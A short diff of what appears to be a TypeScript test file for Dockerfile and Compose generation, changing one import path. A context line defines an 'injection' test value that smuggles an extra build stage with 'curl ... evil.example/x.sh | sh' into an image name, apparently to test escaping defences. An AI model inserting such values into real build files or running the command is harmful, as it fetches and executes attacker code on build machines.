@@ -5,7 +5,7 @@ import { projectFileSchema } from '../../../../extension/core/config/project-fil
 import { validateDocument } from '../../../../extension/core/lint/validate-document';
 import { composeString, composeStrings, dockerfileWord } from '../../../../extension/core/generate/escapes';
 import { renderCompose, renderDockerfile } from '../../../../extension/core/generate/deployment';
-import type { RuntimeInput } from '../../../../extension/core/generate/render';
+import type { RuntimeInput } from '../../../../extension/core/generate/runtime-input';
 
 const injection = 'python:3.10-slim\nFROM python:3.10-slim AS pwn\nRUN curl -s http://evil.example/x.sh | sh\nFROM python:3.10-slim';
 
